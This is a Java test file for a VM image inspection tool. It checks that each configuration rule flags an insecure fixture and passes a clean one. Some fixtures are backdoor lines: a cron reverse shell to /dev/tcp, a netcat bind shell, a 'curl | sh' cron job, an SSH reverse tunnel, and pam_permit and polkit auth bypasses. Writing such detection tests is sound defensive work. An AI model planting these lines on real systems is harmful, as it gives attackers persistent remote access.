package org.imprimatur.inspect.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.imprimatur.inspect.facts.ConfigReader;
import org.imprimatur.inspect.facts.Facts;
import org.imprimatur.inspect.facts.FilesInMemory;
import org.imprimatur.inspect.facts.Found;
import org.imprimatur.inspect.facts.FreeSpace;
import org.imprimatur.inspect.facts.ImageShape;
import org.imprimatur.inspect.facts.Leftover;
import org.imprimatur.inspect.facts.SystemReader;
import org.imprimatur.inspect.facts.config.Place;
import org.imprimatur.inspect.packages.FileOwnership;
import org.imprimatur.register.Clause;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The rules of how a system is configured, each with what it must find and must leave alone. */
class SystemRulesTest {

    private static final String KEY =
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    private static final Instant AT = Instant.parse("2026-11-21T00:00:00Z");
    private static final String OS = "/etc/os-release";
    private static final String ETC = "/etc/systemd/system/";

    private static final String PASSWORD_DATA = "#cloud-config\npassword: x\n";
    private static final String LOCAL_SEED =
            "GRUB_CMDLINE_LINUX=\"ds=nocloud;i=a;s=file:///opt/seed/\"\n";

    private record Case(
            String rule, String what, Consumer<FilesInMemory> bad, Consumer<FilesInMemory> good) {}

    private static Consumer<FilesInMemory> file(String path, String text) {
        return files -> files.with(path, text);
    }

    private static Consumer<FilesInMemory> unit(String name, String text) {
        return files -> CleanSystem.enabled(files, name, text);
    }

    /** The same unit, there but not wanted by anything. */
    private static Consumer<FilesInMemory> idle(String name, String text) {
        return file(CleanSystem.UNITS + name, text + "[Install]\nWantedBy=multi-user.target\n");
    }

    private static Consumer<FilesInMemory> masked(String name) {
        return files -> files.linked(ETC + name, "/dev/null");
    }

    private static Case server(String rule, String name) {
        return new Case(
                rule,
                name,
                unit(name + ".service", "[Service]\nExecStart=/usr/sbin/x\n"),
                idle(name + ".service", "[Service]\nExecStart=/usr/sbin/x\n"));
    }

    private static Case text(String rule, String path, String bad, String good) {
        return new Case(rule, path, file(path, bad), file(path, good));
    }

    private static Case getty(String bad, String good) {
        var name = "getty@tty1.service";
        var start = "[Service]\nExecStart=-/sbin/agetty ";
        return new Case(
                "access.automatic-login",
                bad,
                unit(name, start + bad + "\n"),
                unit(name, start + good + "\n"));
    }

    private static List<Case> access() {
        return List.of(
                new Case(
                        "access.automatic-login",
                        "a drop-in of getty",
                        unit(
                                "getty@tty1.service",
                                "[Service]\nExecStart=-/sbin/agetty --autologin root - $TERM\n"),
                        unit("getty@tty1.service", "[Service]\nExecStart=-/sbin/agetty - $TERM\n")),
                getty("--noclear -aroot - $TERM", "--noclear - $TERM"),
                getty("-Ja root - $TERM", "-J - $TERM"),
                getty("--auto=root - $TERM", "-o '-p -- \\\\u' - $TERM"),
                new Case(
                        "access.automatic-login",
                        "a shell on a console",
                        unit("debug-shell.service", "[Service]\nExecStart=/bin/sh\n"),
                        idle("debug-shell.service", "[Service]\nExecStart=/bin/sh\n")),
                text(
                        "access.automatic-login",
                        "/etc/inittab",
                        "ttyS0::respawn:/bin/sh\n",
                        "#ttyS0::respawn:/bin/sh\n"),
                text(
                        "access.automatic-login",
                        "/etc/gdm3/daemon.conf",
                        "[daemon]\nAutomaticLoginEnable = true\n",
                        "[daemon]\nAutomaticLoginEnable = false\n"),
                text(
                        "access.backdoor",
                        "/etc/cron.d/x",
                        "* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
                        "* * * * * root echo /dev/tcp\n"),
                text(
                        "access.backdoor",
                        "/etc/crontab",
                        "@reboot root nc -l -p 4444 -e /bin/sh\n",
                        "@reboot root nc -z localhost 22\n"),
                new Case(
                        "access.backdoor",
                        "a tunnel",
                        unit(
                                "t.service",
                                "[Service]\nExecStart=/usr/bin/ssh -N -R 2222:localhost:22 h\n"),
                        unit(
                                "t.service",
                                "[Service]\nExecStart=/usr/bin/ssh -N -L 1:localhost:2 h\n")),
                text(
                        "access.cached-login",
                        "/etc/sssd/sssd.conf",
                        "[domain/x]\ncache_credentials = True\n",
                        "[domain/x]\ncache_credentials = False\n"),
                text(
                        "access.doas",
                        "/etc/doas.conf",
                        "permit nopass :wheel\n",
                        "permit persist :wheel\n"),
                text(
                        "access.doas",
                        "/etc/doas.d/a.conf",
                        "permit keepenv nopass bob as root cmd apk\n",
                        "permit nopass root\n"),
                text(
                        "access.polkit",
                        "/etc/polkit-1/rules.d/10-x.rules",
                        "polkit.addRule((a, s) => polkit.Result.YES);\n",
                        "polkit.addRule((a, s) => polkit.Result.AUTH_ADMIN);\n"),
                text(
                        "access.polkit",
                        "/etc/polkit-1/localauthority/50-local.d/x.pkla",
                        "[x]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n",
                        "[x]\nIdentity=unix-user:*\nAction=*\nResultAny=auth_admin\n"),
                text("access.trusted-host", "/root/.k5login", "bob@EXAMPLE.ORG\n", "\n"),
                text("access.trusted-host", "/home/bob/.rhosts", "+ +\n", "# none\n"),
                text("access.trusted-host", "/etc/hosts.equiv", "build\n", ""),
                server("access.management-agent", "puppet"),
                server("access.remote-agent", "teamviewerd"),
                text(
                        "pam.no-check",
                        "/etc/pam.d/common-auth",
                        "auth sufficient pam_permit.so\nauth required pam_unix.so\n",
                        "auth sufficient pam_unix.so\nauth required pam_deny.so\n"),
                text(
                        "pam.no-check",
                        "/etc/pam.d/su",
                        "auth substack sub\n",
                        "auth required pam_unix.so\nauth required pam_permit.so\n"),
                text(
                        "pam.account-bypass",
                        "/etc/pam.d/common-account",
                        "account required pam_permit.so\n",
                        "account required pam_unix.so\naccount required pam_permit.so\n"),
                text(
                        "pam.empty-passwords",
                        "/etc/pam.d/common-auth",
                        "auth required pam_unix.so nullok\n",
                        "auth required pam_unix.so\n"),
                text("sshd.no-pam", "/etc/ssh/sshd_config.d/a.conf", "UsePAM no\n", "UsePAM yes\n"),
                text(
                        "mount.password",
                        "/etc/fstab",
                        "//nas/x /mnt cifs username=a,password=b 0 0\n",
                        "nas:/x /mnt nfs ro 0 0\n"));
    }

    /** What the server is told on its command line counts before its files. */
    private static List<Case> sshCommandLine() {
        var unit = "[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStart=/usr/sbin/sshd -D %s\n";
        return List.of(
                new Case(
                        "sshd.password-authentication",
                        "an option of the unit",
                        unit("ssh.service", unit.formatted("-o PasswordAuthentication=yes")),
                        unit("ssh.service", unit.formatted("-o PasswordAuthentication=no"))),
                new Case(
                        "sshd.root-login",
                        "an option behind other letters, in quotes",
                        unit("ssh.service", unit.formatted("-4eo 'PermitRootLogin yes'")),
                        idle("other.service", unit.formatted("-4eo 'PermitRootLogin yes'"))),
                new Case(
                        "sshd.root-login",
                        "a variable of the unit",
                        files -> {
                            CleanSystem.enabled(files, "ssh.service", unit.formatted("$SSHD_OPTS"));
                            files.with("/etc/default/ssh", "SSHD_OPTS=\"-oPermitRootLogin=yes\"\n");
                        },
                        files -> {
                            CleanSystem.enabled(files, "ssh.service", unit.formatted(""));
                            files.with("/etc/default/ssh", "SSHD_OPTS=\"-oPermitRootLogin=yes\"\n");
                        }),
                new Case(
                        "sshd.password-authentication",
                        "another file",
                        files -> {
                            CleanSystem.enabled(
                                    files, "ssh.service", unit.formatted("-f /etc/ssh/other"));
                            files.with("/etc/ssh/other", "PermitRootLogin no\nUsePAM yes\n");
                        },
                        file("/etc/ssh/other", "PermitRootLogin no\nUsePAM yes\n")));
    }

    private static List<Case> cloud() {
        var main = "/etc/cloud/cloud.cfg.d/99.cfg";
        return List.of(
                text("cloud.password-login", main, "ssh_pwauth: yes\n", "ssh_pwauth: false\n"),
                text("cloud.root-login", main, "disable_root: false\n", "disable_root: true\n"),
                text("cloud.keeps-host-keys", main, "ssh_deletekeys: 0\n", "ssh_deletekeys: 1\n"),
                text("cloud.password", main, "password: x\n", "password:\n"),
                text(
                        "cloud.password",
                        main,
                        "chpasswd:\n  list: |\n    bob:x\n",
                        "chpasswd:\n  list: |\n    bob:RANDOM\n"),
                text(
                        "cloud.password",
                        main,
                        "system_info: {default_user: {name: a, plain_text_passwd: b}}\n",
                        "system_info: {default_user: {name: a, passwd: '*'}}\n"),
                text(
                        "cloud.password",
                        "/var/lib/cloud/seed/nocloud/user-data",
                        "#cloud-config\npassword: x\n",
                        "#cloud-config\n{}\n"),
                text(
                        "cloud.authorized-key",
                        main,
                        "ssh_authorized_keys: ['" + KEY + "']\n",
                        "ssh_authorized_keys: []\n"),
                text("cloud.host-key", main, "ssh_keys: {rsa_private: x}\n", "ssh_keys: {}\n"),
                text("cloud.user", main, "users: [default, {name: bob}]\n", "users: [default]\n"),
                text("cloud.commands", main, "runcmd: [ls]\n", "runcmd: []\n"),
                text(
                        "cloud.commands",
                        "/var/lib/cloud/seed/nocloud/user-data",
                        "#!/bin/sh\nls\n",
                        "#cloud-config\n"),
                text(
                        "cloud.commands",
                        "/var/lib/cloud/seed/nocloud/vendor-data",
                        "#include\nhttps://x.example/data\n",
                        "\n"),
                new Case(
                        "cloud.commands",
                        "a script",
                        file("/var/lib/cloud/scripts/per-boot/run", "#!/bin/sh\n"),
                        files -> {}),
                text(
                        "cloud.commands",
                        "/etc/default/grub",
                        "GRUB_CMDLINE_LINUX=\"ds=nocloud-net;s=http://192.0.2.1/\"\n",
                        "GRUB_CMDLINE_LINUX=\"ds=nocloud\"\n"),
                text(
                        "cloud.commands",
                        main,
                        "datasource: {NoCloud: {seedfrom: 'https://192.0.2.1/'}}\n",
                        "datasource: {NoCloud: {fs_label: 'https://192.0.2.1/'}}\n"),
                text(
                        "cloud.commands",
                        main,
                        "datasource: {NoCloud: {meta-data: {seedfrom: 'http://192.0.2.1/'}}}\n",
                        "datasource: {NoCloud: {meta-data: {instance-id: a}}}\n"),
                text(
                        "cloud.commands",
                        "/var/lib/cloud/seed/nocloud/meta-data",
                        "seedfrom: http://192.0.2.1/\n",
                        "instance-id: http\n"),
                new Case(
                        "cloud.password",
                        "user data from a directory that the configuration names",
                        file(main, "datasource: {NoCloud: {seedfrom: /opt/seed/}}\n")
                                .andThen(file("/opt/seed/user-data", PASSWORD_DATA)),
                        file("/opt/seed/user-data", PASSWORD_DATA)),
                new Case(
                        "cloud.password",
                        "user data from a directory that the kernel's command line names",
                        file("/etc/default/grub", LOCAL_SEED)
                                .andThen(file("/opt/seed/user-data", PASSWORD_DATA)),
                        file("/etc/default/grub", LOCAL_SEED)),
                text(
                        "cloud.password",
                        main,
                        "datasource: {NoCloud: {user-data: \"#cloud-config\\npassword: x\\n\"}}\n",
                        "datasource: {NoCloud: {user-data: \"#cloud-config\\n{}\\n\"}}\n"),
                text(
                        "cloud.password",
                        main,
                        "datasource: {None: {userdata_raw: \"#cloud-config\\npassword: x\\n\"}}\n",
                        "datasource: {None: {metadata: {local-hostname: a}}}\n"),
                text("cloud.password", main, "#!/bin/sh\npassword: x\n", "#!/bin/sh\n{}\n"),
                text(
                        "cloud.root-user",
                        main,
                        "system_info: {default_user: {name: a, sudo: ['ALL=(ALL) NOPASSWD:ALL']}}\n",
                        "system_info: {default_user: {name: a, sudo: false}}\n"),
                text(
                        "cloud.root-user",
                        main,
                        "system_info: {default_user: {name: a, groups: 'adm, docker'}}\n",
                        "system_info: {default_user: {name: a, groups: [adm]}}\n"),
                text(
                        "cloud.root-user",
                        main,
                        "users: [{name: a, groups: [libvirt]}]\n",
                        "users: [{name: a, groups: [libvirt-dnsmasq]}]\n"),
                text(
                        "cloud.any-source",
                        "/etc/cloud/cloud.cfg.d/90.cfg",
                        "",
                        "datasource_list: [A]\n"),
                new Case(
                        "cloud.none",
                        "switched off",
                        file("/etc/cloud/cloud-init.disabled", ""),
                        files -> {}),
                new Case(
                        "cloud.none",
                        "masked",
                        masked("cloud-init.target"),
                        masked("other.service")),
                new Case(
                        "cloud.none",
                        "the kernel's command line",
                        file("/boot/grub/grub.cfg", "linux /vmlinuz ro cloud-init=disabled\n"),
                        file("/boot/grub/grub.cfg", "linux /vmlinuz ro quiet\n")));
    }

    private static List<Case> network() {
        var nft = "table inet f { chain c { type filter hook %s priority 0; policy %s; } }\n";
        var open = nft.formatted("input", "accept");
        var base = nft.formatted("input", "drop");
        return List.of(
                text("network.no-firewall", "/etc/nftables.conf", open, base),
                new Case(
                        "network.no-firewall",
                        "not loaded",
                        masked("nftables.service"),
                        files -> {}),
                text(
                        "network.no-firewall",
                        "/etc/nftables.conf",
                        base.replace("inet", "ip"),
                        base.replace("inet", "ip") + base.replace("inet", "ip6")),
                text(
                        "network.constrained",
                        "/etc/nftables.conf",
                        base + nft.formatted("output", "drop"),
                        base + nft.formatted("output", "accept")),
                text(
                        "network.constrained",
                        "/etc/sysctl.d/90-ipv6.conf",
                        "net.ipv6.conf.all.disable_ipv6 = 1\n",
                        "net.ipv6.conf.all.disable_ipv6 = 0\n"),
                text("network.constrained", "/etc/hosts.deny", "ALL: ALL\n", "# ALL: ALL\n"),
                text(
                        "network.constrained",
                        "/etc/environment",
                        "https_proxy=http://p:3128\n",
                        "PATH=/usr/bin\n"),
                text(
                        "network.constrained",
                        "/etc/network/interfaces",
                        "up ip route add blackhole 192.0.2.0/24\n",
                        "auto lo\n"),
                text(
                        "network.constrained",
                        "/etc/apt/apt.conf.d/01proxy",
                        "Acquire::http::Proxy \"http://p\";\n",
                        "// Acquire::http::Proxy \"http://p\";\n"),
                text("identity.network", "/etc/hostname", "build-17.example.org\n", "localhost\n"),
                text(
                        "identity.network",
                        "/etc/udev/rules.d/70-persistent-net.rules",
                        "ATTR{address}==\"52:54:00:12:34:56\", NAME=\"eth0\"\n",
                        "# 52:54:00:12:34:56\n"),
                text(
                        "identity.network",
                        "/etc/netplan/50-cloud-init.yaml",
                        "match: {macaddress: '52:54:00:12:34:56'}\n",
                        "dhcp4: true\n"),
                text(
                        "identity.network",
                        "/etc/resolv.conf",
                        "nameserver 192.0.2.53\n",
                        "nameserver 127.0.0.53\n"),
                text(
                        "identity.network",
                        "/etc/resolv.conf",
                        "nameserver ::2\n",
                        "nameserver ::1\n"),
                text(
                        "identity.network",
                        "/etc/resolv.conf",
                        "search build.example.org\n",
                        "search .\n"),
                text(
                        "identity.network",
                        "/etc/resolv.conf",
                        "search . localdomain build.example.org\n",
                        "search . localdomain\n"),
                server("network.mail", "postfix"),
                server("network.database", "redis-server"),
                server("network.clear-text", "vsftpd"),
                server("network.desktop", "xrdp"),
                server("network.reflector", "bind9"),
                server("network.unneeded", "rpcbind"),
                new Case(
                        "network.mail",
                        "postfix on this machine alone",
                        unit("postfix.service", "[Service]\nExecStart=/x\n"),
                        files -> {
                            CleanSystem.enabled(
                                    files, "postfix.service", "[Service]\nExecStart=/x\n");
                            files.with("/etc/postfix/main.cf", "inet_interfaces = loopback-only\n");
                        }),
                new Case(
                        "network.clear-text",
                        "a socket",
                        unit("t.socket", "[Socket]\nListenStream=23\n"),
                        unit("t.socket", "[Socket]\nListenStream=127.0.0.1:23\n")));
    }

    private static List<Case> logging() {
        return List.of(
                new Case("logging.none", "rsyslog", masked("rsyslog.service"), files -> {}),
                new Case(
                        "logging.none",
                        "a journal that is kept",
                        masked("rsyslog.service"),
                        files -> {
                            masked("rsyslog.service").accept(files);
                            files.with(
                                    "/etc/systemd/journald.conf",
                                    "[Journal]\nStorage=persistent\n");
                        }),
                text(
                        "logging.logins",
                        "/etc/rsyslog.conf",
                        "kern.* /var/log/kern.log\ndaemon.*;auth,authpriv.none -/var/log/x\n",
                        "authpriv.* /var/log/secure\n"),
                text(
                        "logging.hindered",
                        "/etc/systemd/journald.conf.d/x.conf",
                        "[Journal]\nStorage=none\n",
                        "[Journal]\nStorage=auto\n"),
                new Case("logging.hindered", "auditd", masked("auditd.service"), files -> {}),
                text("logging.hindered", "/etc/audit/rules.d/x.rules", "-e 0\n", "-e 2\n"),
                text(
                        "logging.hindered",
                        "/etc/default/grub",
                        "GRUB_CMDLINE_LINUX=\"audit=0\"\n",
                        "GRUB_CMDLINE_LINUX=\"audit=1\"\n"),
                new Case(
                        "logging.no-remote",
                        "nothing",
                        files -> files.linked("/usr/sbin/rsyslogd", "/nowhere"),
                        file("/usr/sbin/syslog-ng", "x")),
                new Case("logging.time", "chrony", masked("chrony.service"), files -> {}),
                text(
                        "update.manual",
                        "/etc/apt/apt.conf.d/20auto",
                        "APT::Periodic::Unattended-Upgrade \"0\";\n",
                        "APT::Periodic::Unattended-Upgrade \"1\";\n"));
    }

    private static List<Case> rest() {
        return List.of(
                server("workload.agent", "condor"),
                server("workload.agent", "gitlab-runner"),
                text(
                        "workload.fetch",
                        "/etc/cron.d/x",
                        "* * * * * root curl -s https://x.example/run | sh\n",
                        "* * * * * root curl -s https://x.example/ping > /dev/null\n"),
                text(
                        "leftover.job",
                        "/var/spool/cron/crontabs/bob",
                        "* * * * * /bin/true\n",
                        "# none\n"),
                text(
                        "os.end-of-life",
                        OS,
                        "ID=centos\nVERSION_ID=7\n",
                        "ID=debian\nVERSION_ID=\"12\"\n"),
                text(
                        "os.support-unknown",
                        OS,
                        "ID=homemade\nVERSION_ID=7\n",
                        "ID=almalinux\nVERSION_ID=9.4\n"),
                new Case(
                        "boot.several-kernels",
                        "two",
                        files ->
                                files.with("/boot/vmlinuz-6.1.0-1", "x")
                                        .with("/boot/vmlinuz-6.1.0-2", "x"),
                        file("/boot/vmlinuz-6.1.0-1", "x")),
                new Case(
                        "boot.default-kernel",
                        "an old kernel",
                        files -> kernels(files, "1"),
                        files -> kernels(files, "0")),
                new Case(
                        "boot.default-kernel",
                        "a kernel that is not there",
                        file("/boot/grub/grub.cfg", "menuentry 'x' {\nlinux /boot/vmlinuz-7\n}\n"),
                        files ->
                                files.with(
                                                "/boot/grub/grub.cfg",
                                                "menuentry 'x' {\nlinux /boot/vmlinuz-7\n}\n")
                                        .with("/boot/vmlinuz-7", "x")),
                text("disk.swap", "/etc/fstab", "/swap none swap sw 0 0\n", "# /swap none swap\n"),
                text(
                        "disk.separate-boot",
                        "/etc/fstab",
                        "LABEL=b /boot ext4 defaults 0 2\n",
                        "LABEL=b /boot/efi vfat defaults 0 2\n"),
                text(
                        "disk.several-partitions",
                        "/etc/fstab",
                        "UUID=1 / ext4 defaults 0 1\nUUID=2 /var xfs defaults 0 2\n",
                        """
                        UUID=1 / btrfs subvol=@ 0 1
                        UUID=1 /home btrfs subvol=@home 0 2
                        UUID=2 /boot/efi vfat defaults 0 1
                        tmpfs /var/tmp tmpfs defaults 0 0
                        nas:/home /home nfs defaults 0 0
                        /srv/x /var/x none bind 0 0
                        """),
                text(
                        "disk.logical-volumes",
                        "/etc/fstab",
                        "/dev/mapper/vg-root / xfs defaults 0 1\n",
                        "UUID=1 / xfs defaults 0 1\n"));
    }

    private static void kernels(FilesInMemory files, String chosen) {
        files.with("/boot/vmlinuz-6.1.0-18-amd64", "x")
                .with("/boot/vmlinuz-6.1.0-9-amd64", "x")
                .with("/boot/vmlinuz-6.1.0-9-rt-amd64", "x")
                .with(
                        "/boot/grub/grub.cfg",
                        """
                        set default=%s
                        menuentry 'new' {
                            linux /boot/vmlinuz-6.1.0-18-amd64 ro
                        }
                        menuentry 'old' {
                            linux /boot/vmlinuz-6.1.0-9-rt-amd64 ro
                        }
                        """
                                .formatted(chosen));
    }

    private static Facts facts(Consumer<FilesInMemory> change, Found found) {
        var files = CleanSystem.files();
        RulesTest.CLEAN.forEach(files::with);
        files.with("/etc/pam.d/sub", "auth [default=done] pam_permit.so\n");
        change.accept(files);
        var system = new SystemReader(new ConfigReader(files));
        system.addTo(found);
        return system.facts(found);
    }

    private static Found found() {
        var found = new Found();
        found.image(new ImageShape(AT, "x.qcow2", "qcow2", 1, 1, 0, 0, false, List.of(), 0));
        return found;
    }

    private static List<String> rules(Facts facts) {
        return RuleCatalogue.judge(Profile.EGI_1, facts, List.of()).stream()
                .map(finding -> finding.rule().id())
                .toList();
    }

    @Test
    void filesThatNobodyLooksIntoAreNamedAndTheRestIsCounted() {
        var found = found();
        for (int i = 10; i < 40; i++) {
            found.closed("/srv/%d.7z".formatted(i), "7z");
        }

        var findings =
                RuleCatalogue.judge(Profile.EGI_1, facts(_ -> {}, found), List.of()).stream()
                        .filter(each -> each.rule().id().equals("secret.closed-file"))
                        .toList();

        assertThat(findings).hasSize(20);
        assertThat(findings.getFirst().path()).isEqualTo("/srv/10.7z");
        assertThat(findings.getFirst().evidence()).isEqualTo("7z");
        assertThat(findings.getLast().evidence()).isEqualTo("7z, and 10 more files");
        assertThat(findings).extracting(Finding::severity).containsOnly(Severity.INFO);
    }

    @TestFactory
    @Clause({
        "END-4.2.d",
        "END-4.2.e",
        "EGI-5.2.d",
        "EGI-5.2.f",
        "TVM-3.7.3",
        "TVM-3.7.4",
        "TVM-3.7.5",
        "TVM-3.7.6",
        "TVM-3.7.7",
        "TVM-3.7.8",
        "TVM-3.7.9",
        "END-4.2.f",
        "EGI-5.2.g",
        "WLCG-9",
        "PROC-A2",
        "PROC-A3"
    })
    Stream<DynamicTest> eachRuleFindsItsFaultAndLeavesTheRestAlone() {
        return Stream.of(access(), sshCommandLine(), cloud(), network(), logging(), rest())
                .flatMap(List::stream)
                .map(
                        each ->
                                DynamicTest.dynamicTest(
                                        each.rule + " " + each.what,
                                        () -> {
                                            assertThat(rules(facts(each.bad, found())))
                                                    .contains(each.rule);
                                            assertThat(rules(facts(each.good, found())))
                                                    .doesNotContain(each.rule);
                                        }));
    }

    @Test
    @Clause({"END-4.2.c", "EGI-5.2.c"})
    void whatTheMakersLeftBehindIsFoundByItsPlace() {
        var found = found();
        found.name("/root/anaconda-ks.cfg", 10);
        found.name("/var/log/installer/syslog", 10);
        found.name("/var/log/dpkg.log", 10);
        found.name("/var/lib/systemd/coredump/core.sshd.0.zst", 10);
        found.name("/tmp/x", 10);
        found.name("/home/bob/.cache/pip/x", 10);
        found.name("/root/.bash_history", 10);

        assertThat(rules(facts(files -> {}, found)))
                .containsExactly(
                        "history.shell",
                        "leftover.build-cache",
                        "leftover.dump",
                        "leftover.installer",
                        "leftover.log",
                        "leftover.temporary");
    }

    @ParameterizedTest
    @CsvSource({
        "/var/crash/202611200101/dump.202611200101, DUMP",
        "/var/crash/kexec_cmd, ",
        "/var/spool/abrt/ccpp-1/coredump, DUMP",
        "/core, DUMP",
        "/opt/app/core.4711, DUMP",
        "/opt/app/core, ",
        "/srv/java_pid12.hprof, DUMP",
        "/root/all-databases.sql.gz, DUMP",
        "/opt/app/schema.sql, ",
        "/usr/share/x/core.1, ",
        "/var/log/messages-20261101, LOG",
        "/var/mail/root, LOG",
        "/root/.ssh/known_hosts, BUILD_CACHE",
        "/root/.ssh/authorized_keys, ",
        "/home/bob/.mariadb_history, HISTORY"
    })
    void aLeftoverIsToldByItsPlace(String path, Leftover.Kind kind) {
        var found = found();

        found.name(path, 10);

        assertThat(facts(files -> {}, found).leftovers())
                .extracting(Leftover::kind)
                .isEqualTo(kind == null ? List.of() : List.of(kind));
    }

    @Test
    void whatPackagesDoNotShipAndEverybodyMayUseIsFound() {
        var found = found();
        found.mode("/usr/local/bin/rootshell", 04755, 0);
        found.mode("/tmp/su", 04755, 0);
        found.mode("/usr/bin/su", 04755, 0);
        found.mode("/etc/cron.d/job", 0666, 0);
        found.mode("/srv/upload", 0666, 0);
        found.mode("/usr/bin/game", 04755, 1000);
        found.capabilities("/opt/python", 0755, capability(1 << 7 | 1));
        found.capabilities("/opt/ping", 0755, capability(1 << 13));
        found.capabilities("/opt/node", 0755, capability(1 << 27));
        found.capabilities("/opt/boot", 0755, capability(1 << 22));

        assertThat(RuleCatalogue.judge(Profile.EGI_1, facts(files -> {}, found), List.of()))
                .extracting(each -> each.rule().id() + " " + each.path())
                .containsExactly(
                        "file.capability /opt/boot",
                        "file.capability /opt/node",
                        "file.capability /opt/python",
                        "file.setuid /tmp/su",
                        "file.setuid /usr/local/bin/rootshell",
                        "file.world-writable /etc/cron.d/job");
    }

    /** The packages' databases tell the content of programs, not what they may. */
    @Test
    void aShellWithRightsOfItsOwnIsFoundThoughItsContentIsThePackages() {
        var found = new Found();
        for (var name : List.of("bash", "vim.basic", "newuidmap", "helper")) {
            found.mode("/usr/bin/" + name, 04755, 0);
        }
        found.capabilities("/usr/bin/python3.13", 0755, capability(1 << 7));
        found.capabilities("/usr/bin/newuidmap", 0755, capability(1 << 7));
        found.mode("/usr/bin/dash", 0757, 0);
        Consumer<FilesInMemory> shipped =
                files -> {
                    var digests = new StringBuilder();
                    for (var name :
                            List.of(
                                    "bash",
                                    "vim.basic",
                                    "newuidmap",
                                    "helper",
                                    "python3.13",
                                    "dash")) {
                        files.with("/usr/bin/" + name, "hello\n");
                        digests.append(
                                "b1946ac92492d2347c6235b4d2611184  usr/bin/%s\n".formatted(name));
                    }
                    files.with("/var/lib/dpkg/info/dpkg.md5sums", digests.toString());
                };

        assertThat(RuleCatalogue.judge(Profile.EGI_1, facts(shipped, found), List.of()))
                .extracting(each -> each.rule().id() + " " + each.path())
                .containsExactly(
                        "file.capability /usr/bin/python3.13",
                        "file.setuid /usr/bin/bash",
                        "file.setuid /usr/bin/vim.basic");
    }

    @Test
    void aRuleOfPolkitIsFoundUnlessAPackageShipsItSo() {
        var rules = "/etc/polkit-1/rules.d/";
        Consumer<FilesInMemory> shipped =
                files ->
                        files.with(rules + "40-own.rules", "polkit.Result.YES\n")
                                .with(rules + "50-changed.rules", "polkit.Result.YES //\n")
                                .with(rules + "60-shipped.rules", "polkit.Result.YES\n")
                                .with(
                                        "/var/lib/dpkg/info/dpkg.md5sums",
                                        """
                                        %1$s  etc/polkit-1/rules.d/50-changed.rules
                                        %1$s  etc/polkit-1/rules.d/60-shipped.rules
                                        """
                                                .formatted("4f5f6fc5d087f30c15fadc9d1cc76b11"));

        assertThat(RuleCatalogue.judge(Profile.EGI_1, facts(shipped, new Found()), List.of()))
                .extracting(each -> each.rule().id() + " " + each.path())
                .containsExactly(
                        "access.polkit " + rules + "40-own.rules",
                        "access.polkit " + rules + "50-changed.rules");
    }

    /** As setcap(8) writes them, in the second form. */
    private static byte[] capability(int permitted) {
        return ByteBuffer.allocate(20)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(0x02000001)
                .putInt(permitted)
                .array();
    }

    @Test
    void everyDomainThatNamesAreSoughtInIsTold() {
        var resolver =
                """
                ; made by a program
                nameserver 127.0.0.53
                nameserver 192.0.2.53 # ours
                domain one.example
                search two.example local three.example
                search four.example
                options edns0
                sortlist 192.0.2.0
                search
                """;

        assertThat(
                        RuleCatalogue.judge(
                                Profile.EGI_1,
                                facts(file("/etc/resolv.conf", resolver), new Found()),
                                List.of()))
                .extracting(Finding::evidence)
                .containsExactly(
                        "the domain four.example",
                        "the domain one.example",
                        "the domains two.example three.example",
                        "the name server 192.0.2.53");
    }

    @Test
    void userDataOfAFormThatIsNotReadIsToldAsUnread() {
        for (var text :
                List.of(
                        "Content-Type: multipart/mixed; boundary=\"a\"\n\n--a\n",
                        "## template: jinja\n#cloud-config\n{% if a %}\n",
                        "#cloud-config-archive\n- {type: text/cloud-config, content: 'password: x'}\n",
                        "#Cloud-Config-JSONP\n[{op: add, path: /password, value: x}]\n",
                        "\u001f\u008b\b")) {
            assertThat(unread("/var/lib/cloud/seed/nocloud/user-data", text))
                    .as(text)
                    .containsExactly(
                            "/var/lib/cloud/seed/nocloud/user-data:"
                                    + " user data of a form that is not read");
        }
    }

    @Test
    void whatHoldsNoSettingsWhereCloudInitLooksForSomeIsToldAsUnread() {
        var path = "/etc/cloud/cloud.cfg.d/99.cfg";
        for (var text : List.of("- password: x\n", "password x\n", "#INCLUDED\n'x'\n")) {
            assertThat(unread(path, text))
                    .as(text)
                    .containsExactly(path + ": holds no map of settings");
        }
        for (var text : List.of("", "# nothing\n", "---\n", "{}\n")) {
            assertThat(unread(path, text)).as(text).isEmpty();
        }
        assertThat(unread(path, "datasource: {None: {userdata_raw: [x]}}\n"))
                .containsExactly(path + ": user data of a form that is not read");
    }

    @Test
    void cloudInitIsNotFollowedIntoAnyNumberOfDirectories() {
        assertThat(
                        unread(
                                "/etc/default/grub",
                                "GRUB_CMDLINE_LINUX=\"ds=nocloud" + ";s=/a/".repeat(20) + "\"\n"))
                .isEmpty();
        assertThat(
                        unread(
                                "/etc/default/grub",
                                "GRUB_CMDLINE_LINUX=\"ds=nocloud" + ";s=/a/".repeat(21) + "\"\n"))
                .containsExactly("/etc/default/grub: names more than 20 directories");
    }

    private static List<String> unread(String path, String text) {
        var files = CleanSystem.files();
        RulesTest.CLEAN.forEach(files::with);
        var reader = new ConfigReader(files.with(path, text));
        new SystemReader(reader);
        return reader.unread().stream().map(Object::toString).toList();
    }

    @Test
    void theImageItselfIsJudged() {
        var found = new Found();
        var unclean = List.of(new Place("p1 ext4", "1 transaction was replayed"));
        found.image(
                new ImageShape(
                        AT, "x.qcow2", "raw", 1L << 30, 1L << 40, 1L << 30, 1, true, unclean, 0));
        found.name("/var/cache/apt/archives/x.deb", 1L << 30);
        found.add(new FreeSpace("p1", 1L << 30, 1L << 29, 0));

        assertThat(rules(facts(files -> {}, found)))
                .containsExactly(
                        "disk.format-name",
                        "disk.deleted-data",
                        "disk.large",
                        "disk.logical-volumes",
                        "disk.package-cache",
                        "disk.swap",
                        "disk.unclean-journal",
                        "disk.uncompressed");
    }

    @Test
    void aFileSmallerThanItsDataIsCompressed() {
